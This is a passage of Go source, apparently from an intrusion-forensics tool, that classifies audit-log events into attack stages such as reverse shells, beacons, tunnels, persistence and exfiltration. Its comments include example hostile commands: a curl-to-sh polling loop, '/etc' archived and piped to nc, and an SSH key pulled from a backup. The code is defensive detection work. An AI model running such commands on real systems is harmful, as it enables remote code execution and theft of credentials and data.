			owner, why = "a queued job's", "atd, which runs nothing but queued jobs, started it as the account a command acting for the intrusion had queued a job for, after that command"
		case in.PlantRun && !in.PlantFork:
			// a program the intrusion planted whole, run by what it hooked
			owner, why = "a planted program's", "it runs, or descends from, a program or script the intrusion's chain put in place (copied, written or named by its commands), started later by what it hooked: an apt hook, a login, cron"
		case in.ForRequest:
			owner, forWhat, why = "a service's", " for a web request", "a local service ran it at once after accepting a connection the web server's own worker made to it: a request reaching the service through the web server"
		case in.Handoff:
			owner, why = "another account's", "its shell's command holds, outside quotes where a shell splits commands, text that a command run for the web server had passed as an argument before it (observed: the same text); how it got there (a job queue, a spool, a remote login's command) is not in the log"
		case in.ViaService:
			owner, why = "a service's", "run as a service's account just after that service accepted the intrusion's client"
		default:
			// adopted either way (state.adopt, plantfork.go): both are said
			owner, why = "a detached job's", "no fork is recorded; it started under init just after a process of the web server's, as the same account or with exactly the command line a launcher there detached (setsid, nohup), or in the background of a file the web account planted, just after it ran"
		}
		why = " (inferred: " + why + ")"
		run := ""
		if forWhat != "" {
			run = " run" + forWhat
		}
		shell, acting, connects = owner+" shell"+run+why, owner+" process"+run+why, owner+" shell"+run+why
		worker = owner + " process runs a command" + forWhat + why
	}
	if in.Shellless && in.Kind == parser.KindExec {
		// no shell ran: the program was started with an argument list
		shell = strings.Replace(shell, " shell", " program, started with no shell,", 1)
	}
	switch in.Kind {
	case parser.KindConnect, parser.KindAccept:
		switch {
		case c == classExfilImpact:
			return StageExfiltrationImpact, "connection of a command that sends data out"
		case c == classScan:
			return StageLateralMovement, "a port scan's connection: discovery of internal services before lateral movement (T1046)"
		case c == classTunnel:
			return StageCommandAndControl, "the connection of a tunnel (port forwarding): a channel for the attacker (T1572)"
		case c == classPivot:
			return StageLateralMovement, "the connection of a forward or SOCKS tunnel (ssh -L/-D) out of this host: a way into other hosts from it (T1090, T1572)"
		case in.Port == 22:
			return StageLateralMovement, "connection to a remote-access service"
		case c == classLateral:
			return StageLateralMovement, "connection of a command that uses another service's credentials (T1078)"
		case (web || in.InChannel || in.Scheduled || in.PlantRun) && (in.Polls || polls(in.Command)):
			return StageCommandAndControl, "connection of a fetch repeated in a loop (while, sleep): a beacon polling its server for tasks (T1071.001), not a one-off download"
		case !in.InChannel && (web || in.OpensChannel) && fetchesPeer(in.Command, in.PeerIP, in.Port):
			return StageSuspiciousSpawn, "connection of a download by " + acting + ": its command fetches a URL of this peer once (ingress tool transfer, T1105); no shell is attached to the socket"
		case in.OpensChannel && in.ProgramChannel:
			return StageCommandAndControl, strings.Replace(connects, " shell", " process", 1) + " connects out itself, no shell on the socket: a channel of its own for the commands it then starts (T1071)"
		case in.OpensChannel:
			return StageCommandAndControl, connects + " connects out: a reverse shell"
		case in.InChannel:
			return StageCommandAndControl, "outbound connection from a process acting for the web server"
		case web:
			return StageCommandAndControl, "outbound connection from " + acting
		}
		return in.Default, "rule default"
	case parser.KindExec:
		switch {
		case in.OptionProbe:
			// what the application's own command does (zip packing into
			// /tmp) is not the act: the injected option is
			return StageInitialAccess, "a probe: an option injected where the application puts its operands (argument injection), one that runs nothing or only prints a marker: someone testing the door"
		case c == classPersistence && in.Unprivileged && setuidOnly(strings.ToLower(in.Command)):
			return StageSuspiciousSpawn, "the command sets the setuid or setgid bit as an unprivileged account: the file then runs with its owner's rights, and it is worth something only once root owns it (root copying or unpacking it with its mode kept): a privilege escalation readied (T1548.001), not a way back in"
		case c == classPersistence:
			return StagePersistence, "the command installs persistence"
		case c == classTunnel:
			return StageCommandAndControl, "the command opens a tunnel (port forwarding): a channel for the attacker (T1572)"
		case c == classPivot:
			return StageLateralMovement, "the command opens a forward or SOCKS tunnel (ssh -L/-D) out of this host: a way into other hosts from it (T1090, T1572)"
		case c == classLateral:
			return StageLateralMovement, "the command reaches another host or account"
		case c == classScan:
			return StageLateralMovement, "a port scan: discovery of internal services before lateral movement (T1046)"
		case c == classExfilImpact && timestompOnly(in.Command):
			return StageExfiltrationImpact, "the command sets a file's times from another file or a date (touch -r/-d/-t): a change hidden from a timeline (timestomp, T1070.006), anti-forensics, placed with impact; it sends nothing"
		case c == classExfilImpact:
			return StageExfiltrationImpact, "the command sends data out, stages it or destroys it"
		case in.Default.Effect():
			return in.Default, "rule default (an effect)"
		case in.InSession:
			return StageLateralMovement, "run in the login the intruder's ssh opened on this host (inferred by address and time): the other account's commands"
		case in.Polls && (web || in.InChannel || in.Scheduled || in.PlantRun):
			return StageCommandAndControl, "a fetch its parent repeats, of the same server again and again: a beacon polling for tasks (T1071.001), not a one-off download"
		case in.ForRequest && in.OtherAccount && (c == classSuspicious || c == classNone || c == classChannel):
			return StageLateralMovement, "run as the account of a local service that had just accepted a connection made while the web server's worker served a request (inferred from the order: the worker's connect or request, the service's accept within milliseconds, this command at once): code run through that service, as its account (T1210)"
		case in.Handoff && in.OtherAccount && (c == classSuspicious || c == classNone || c == classChannel):
			return StageLateralMovement, "run as another account by a shell whose command holds text a command run for the web server had passed as an argument (observed: the same text outside quotes; inferred: handed over, through a job queue, a spool or a remote login's command): the intrusion's commands run with that account's rights (T1021, T1078)"
		case in.ViaService && (c == classSuspicious || c == classNone || c == classChannel):
			return StageLateralMovement, "run as the account of a service that had just accepted the intrusion's client (inferred from the order: the client's connect, the service's accept within milliseconds, this command moments later): code run through that service, as its account (T1210)"
		case in.InChannel && archiveToStdout(in.Command):
			return StageExfiltrationImpact, "an archive written to the standard output of a command inside a channel: what reads that output (the implant posting a task's answer, the reverse shell's socket) takes the data out over the channel (T1041, T1560.001)"
		case in.InChannel && in.Elevated && (c == classSuspicious || c == classNone):
			// what the unprivileged shell's commands gained: the
			// escalation and what root does first with it, not the
			// channel's traffic
			return StageSuspiciousSpawn, "runs as root inside a reverse-shell channel an unprivileged account opened: the privilege gained (T1068, T1548, T1574)"
		case in.InChannel && in.TaskFeed != "":
			return StageCommandAndControl, "run by a planted process that follows " + in.TaskFeed + " (tail -F): a task a web request carried in its logged line, read from the log and run (T1071.001); the log is the channel (inferred: the process's reads are not audited, and nothing but the followed log feeds its shells)"
		case in.InChannel && in.TaskLoop && in.LoopShell:
			why := "run by a shell loop that fetches from one server again and again and runs what it fetched (a task loop polling it for commands, T1071): a task it fetched"
			if in.Adopted {
				// how the loop was tied to the web server is an inference,
				// and stays said on every task it runs
				why += "; the loop is " + acting
			}
			return StageCommandAndControl, why
		case in.InChannel && in.TaskLoop:
			return StageCommandAndControl, "run by a planted process whose children call one server again and again (a task loop polling it for commands, T1071): a task it fetched"
		case in.InChannel && in.ProgramChannel:
			return StageCommandAndControl, "run by a process that connected out itself and starts a command for each one it receives (no shell holds the socket): a command from the other end of that connection (T1071)"
		case in.InChannel:
			return StageCommandAndControl, "run inside a reverse-shell channel"
		case in.PlantFork && (c == classNone || c == classSuspicious):
			// what the planted line runs is the plant working, whoever ran
			// the file (root's cron running the script the web account
			// appended to): the effects above keep their own stages
			return StagePersistence, "started in the background by a planted file when it ran (inferred: its unseen parent is taken as the plant's fork): the persistence firing"
		case in.ShellTest && (c == classNone || c == classSuspicious):
			return StageWebshellUpload, "a marker echoed just after a script was planted in the served tree (inferred from the order): the planted web shell being tried, not an injection being probed"
		case in.Callback && (c == classNone || c == classSuspicious):
			return StageInitialAccess, "a call out that keeps nothing and sends nothing (no output file, no upload, no pipe), made by the web server's own child with nothing planted before it: a blind injection tested out of band, the door being tried (T1190)"
		case in.Probe && (c == classNone || c == classSuspicious):
			// (suspicious: a traversal in a parameter is itself the probe)
			return StageInitialAccess, "a probe (an echoed marker, arithmetic, a sleep, a broken quote or a traversal in the command): someone testing an injection"
		case c == classChannel && in.Scheduled:
			return StageCommandAndControl, "a scheduled job starts a reverse shell: the beacon of an installed persistence"
		case c == classChannel && in.PlantRun:
			return StageCommandAndControl, "what a planted file started starts a reverse shell: the backdoor calling back"
		case c == classChannel && web:
			return StageSuspiciousSpawn, shell + " starts a reverse shell"
		case c == classChannel:
			return StageCommandAndControl, "reverse-shell arguments"
		case c == classSuspicious && web && in.Shellless:
			return StageSuspiciousSpawn, shell + " has suspicious arguments"
		case c == classSuspicious && web:
			return StageSuspiciousSpawn, shell + " runs a command with suspicious arguments"
		case in.WebServer:
			return StageCommandExecution, worker
		case web && (in.Default == StageNone || in.Default == StageCommandExecution):
			return StageCommandExecution, "the web-service account runs a command"
		}
		return in.Default, "rule default"
	case parser.KindFileWrite, parser.KindRename, parser.KindUnlink, parser.KindFileRead, parser.KindChmod:
		switch {
		case in.Kind == parser.KindFileRead && in.Archiver && !in.Fixed:
			// tar reading /etc/shadow is not a credential read for use: the
			// file goes into an archive, data collected to be taken out
			return StageExfiltrationImpact, "read by an archiver, so the file goes into an archive (T1560.001); inferred: data collected to be taken out, not read for use"
		case in.Default.Effect() || in.Default == StageInitialAccess:
			return in.Default, "rule default (an effect on files)"
		case in.InChannel:
			switch {
			case in.ProgramChannel && in.ChannelOpener:
				return StageCommandAndControl, "file access by the process that holds the channel: it connected out itself, and no shell holds the socket (T1071)"
			case in.ProgramChannel:
				return StageCommandAndControl, "file access by a command of a process that connected out itself (no shell holds the socket): from the other end of that connection (T1071)"
			}
			return StageCommandAndControl, "file access from inside a reverse-shell channel"
		case web && in.Default == StageNone:
			return StageSuspiciousSpawn, "file access by the web-service account"
		}
	}
	return in.Default, "rule default"
}

// urlRE finds the URLs a command line names, with their host and port.
var urlRE = lazydfa.MustCompile(`(?i)\b(https?|ftp)://(\[[0-9a-f:.]+\]|[^/\s'"\\:?#]+)(:([0-9]{1,5}))?`)

// loopRE: a command that repeats (a shell loop, a sleep between rounds)
// polls its URL: a beacon, not a one-off fetch.
var loopRE = lazydfa.MustCompile(`(^|[\s;|&(])(while|until|for)\s|(^|[\s;|&(])sleep\s`)

// cmdSepRE splits a command line into its simple commands.
var cmdSepRE = lazydfa.MustCompile(`\s*(?:;|&&|\|\||\||\n)\s*`)

// tempDirs are where a command's scratch files go.
var tempDirs = []string{"/tmp/", "/var/tmp/", "/dev/shm/"}

// withoutScratchRemoval returns the lower-cased command s with its
// recursive removals of scratch left out when it does something else too:
// `cd /dev/shm && tar xzf backup.tgz home/u/.ssh/id_ed25519 && mv … && rm
// -rf home` takes a key out of a backup, and removing what it unpacked is
// tidying its own scratch, not destruction. A removal is scratch when
// every path it names is in a temporary directory, or relative after a
// `cd` into one in the same command. A command that only removes is left
// whole: the intruder's cleanup is anti-forensics (stage 8).
func withoutScratchRemoval(s string) string {
	if !strings.Contains(s, "rm ") {
		return s
	}
	parts := cmdSepRE.Split(s, -1)
	if len(parts) < 2 {
		return s
	}
	inTemp := func(p string) bool {
		for _, d := range tempDirs {
			if strings.HasPrefix(p, d) {
				return true
			}
		}
		return false
	}
	var kept []string
	cwdTemp, dropped := false, false
	for _, part := range parts {
		f := strings.Fields(part)
		if len(f) >= 2 && f[0] == "cd" {
			cwdTemp = inTemp(strings.TrimSuffix(f[1], "/") + "/")
		}
		if len(f) >= 3 && path.Base(f[0]) == "rm" && strings.HasPrefix(f[1], "-") && strings.ContainsAny(f[1], "rR") {
			scratch := true
			for _, a := range f[2:] {
				switch {
				case strings.HasPrefix(a, "-"):
				case strings.HasPrefix(a, "/"):
					scratch = scratch && inTemp(a) && !strings.Contains(a, "..")
				default:
					scratch = scratch && cwdTemp && !strings.Contains(a, "..") && !strings.ContainsAny(a, "$`*~")
				}
			}
			if scratch {
				dropped = true
				continue
			}
		}
		kept = append(kept, part)
	}
	if !dropped || len(kept) == 0 {
		return s
	}
	return strings.Join(kept, " ; ")
}

// fetchesPeer reports whether a connect to ip:port is the fetch of a URL
// the command names: a URL whose host is that address (or a name, which
// the audit log never resolves) and whose port, given or the scheme's, is
// that port; a command that loops is a beacon polling it, not a fetch.
func fetchesPeer(cmd, ip string, port int) bool {
	if cmd == "" || port == 0 || loopRE.MatchString(cmd) {
		return false
	}
	for _, m := range urlRE.FindAllStringSubmatch(cmd, 8) {
		host := strings.Trim(m[2], "[]")
		p := map[string]int{"http": 80, "https": 443, "ftp": 21}[strings.ToLower(m[1])]
		if m[4] != "" {
			p, _ = strconv.Atoi(m[4])
		}
		if p != port {
			continue
		}
		if host == ip || net.ParseIP(host) == nil {
			return true
		}
	}
	return false
}

// polls reports whether a command fetches a URL over and over: a fetch
// (curl, wget or a URL) inside a loop or between sleeps.
func polls(cmd string) bool {
	return loopRE.MatchString(cmd) && (urlRE.MatchString(cmd) || fetchRE.MatchString(cmd))
}

// fetchRE: an HTTP client by name.
var fetchRE = lazydfa.MustCompile(`(^|[\s;|&(/])(curl|wget)\s`)

// pollingShell returns the -c string of p's parent shell when it runs p in
// a loop (`while :; do curl -s http://…/t | sh; sleep 30; done`): the
// connect of curl shows one fetch, the shell shows it repeats.
func pollingShell(p *parser.Process) (string, bool) {
	if p == nil || p.Parent == nil {
		return "", false
	}
	sc, ok := shellCommand(p.Parent.Exe, p.Parent.Args)
	if !ok {
		return "", false
	}
	return sc, polls(sc)
}

// stdinDriven are programs whose whole input comes on stdin: what they
// do is in the command that feeds them.
var stdinDriven = map[string]bool{"chpasswd": true, "newusers": true, "chgpasswd": true}

// parentShellCommand returns the -c string of p's parent shell.
func parentShellCommand(p *parser.Process) (string, bool) {
	if p == nil || p.Parent == nil {
		return "", false
	}
	return shellCommand(p.Parent.Exe, p.Parent.Args)
}

// feedingShell returns the -c string of p's parent shell when it feeds a
// file or archive into p's socket (`tar czf - /etc | nc host 443`): the
// connect of nc shows only "nc host 443", the data going out is in the
// shell's command.
func feedingShell(p *parser.Process) (string, bool) {
	if p == nil || p.Parent == nil {
		return "", false
	}
	sc, ok := shellCommand(p.Parent.Exe, p.Parent.Args)
	if !ok {
		return "", false
	}
	low := strings.ToLower(sc)
	return sc, feedRE.MatchString(low) && !channelRE.MatchString(low)
}

// copyTransports are the file-copy tools that run ssh as their transport.
var copyTransports = map[string]bool{"scp": true, "rsync": true}

// sendingCopy reports whether a process is the ssh transport of a copy
// that sends local files to another host — scp or rsync whose last operand
// is remote (host:path) and an earlier one local: its exec and its
// connects are the data leaving (exfiltration), not an ssh session to
// another account (news-deser: scp of a database dump as root).
func sendingCopy(p *parser.Process) bool {
	if p == nil || p.Parent == nil || path.Base(p.Exe) != "ssh" || !copyTransports[path.Base(p.Parent.Exe)] {
		return false
	}
	var ops []string
	args := p.Parent.Args
	for i := 1; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-i" || a == "-o" || a == "-P" || a == "-e" || a == "-F" || a == "-l" || a == "-c" || a == "-S":
			i++ // the option's value
		case strings.HasPrefix(a, "-"):
		default:
			ops = append(ops, a)
		}
	}
	if len(ops) < 2 {
		return false
	}
	remote := func(a string) bool { c := strings.IndexByte(a, ':'); return c > 0 && !strings.Contains(a[:c], "/") }
	return remote(ops[len(ops)-1]) && !remote(ops[0])
}

// archivers are the programs whose reads collect files into an archive.
var archivers = map[string]bool{"tar": true, "bsdtar": true, "zip": true, "7z": true, "7za": true, "7zz": true, "cpio": true, "rar": true, "pax": true}
